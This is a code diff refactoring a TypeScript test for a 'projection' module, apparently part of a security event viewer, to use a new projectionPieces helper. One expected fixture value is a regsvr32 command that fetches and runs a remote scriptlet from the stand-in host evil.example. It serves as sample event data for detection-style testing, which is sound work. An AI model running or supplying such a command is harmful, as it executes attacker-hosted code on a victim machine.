@@ -6,6 +6,7 @@ import {
 	hasBigram,
 	projectedFields,
 	projectionOf,
+	projectionPieces,
 	projectionText,
 	textIncludes,
 } from '../../../source/core/view/projection.js';
@@ -69,12 +70,12 @@ describe('projection', () => {
 
 	it('keeps each field a lower-cased piece of its own, in order', () => {
 		const p = projectionOf(events[0]!);
-		expect(p.pieces.slice(0, 3)).toEqual([
+		expect(projectionPieces(p).slice(0, 3)).toEqual([
 			'explorer.exe -> regsvr32.exe /s /u /i:http://evil.example/a.sct scrobj.dll',
 			'ws-fin-01',
 			'corp\\alice',
 		]);
-		expect(projectionOf(events[3]!).pieces).toEqual([]);
+		expect(projectionPieces(projectionOf(events[3]!))).toEqual([]);
 	});
 
 	it('finds text inside one piece, and a needle with a newline across two', () => {
